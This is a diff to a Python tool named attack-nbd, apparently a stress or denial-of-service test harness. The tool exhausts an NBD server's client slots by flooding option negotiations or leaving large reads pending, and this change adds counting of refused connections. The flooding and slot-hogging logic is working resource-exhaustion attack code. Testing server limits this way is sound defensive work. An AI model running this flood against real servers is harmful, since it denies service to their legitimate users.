@@ -83,21 +83,27 @@ def main():
         ap.error("need --unix PATH or HOST PORT")
 
     start = time.monotonic()
-    socks, born, sent = [], {}, 0
+    socks, born, sent, refused = [], {}, 0, 0
     for _ in range(args.clients):
-        s = connect(args)
-        born[s.fileno()] = time.monotonic()
-        if args.mode == "options":
-            sent += flood_options(s, args.options)
-        else:
-            handshake(s)
-            sent += 1
-            if args.mode == "stuck":
-                for i in range(8):
-                    request(s, CMD_READ, i, i << 19, 512 << 10)
-                sent += 8
+        try:
+            s = connect(args)
+            born[s.fileno()] = time.monotonic()
+            if args.mode == "options":
+                sent += flood_options(s, args.options)
+            else:
+                handshake(s)
+                sent += 1
+                if args.mode == "stuck":
+                    for i in range(8):
+                        request(s, CMD_READ, i, i << 19, 512 << 10)
+                    sent += 8
+        except (OSError, EOFError, ValueError):
+            # Past nbd-max-clients the server closes new clients at once;
+            # an attacker keeps the places it has.
+            refused += 1
+            continue
         socks.append(s)
-    print(f"attack-nbd {args.mode}: {len(socks)} clients connected", flush=True)
+    print(f"attack-nbd {args.mode}: {len(socks)} clients connected, {refused} refused", flush=True)
 
     p = select.poll()
     for s in socks:
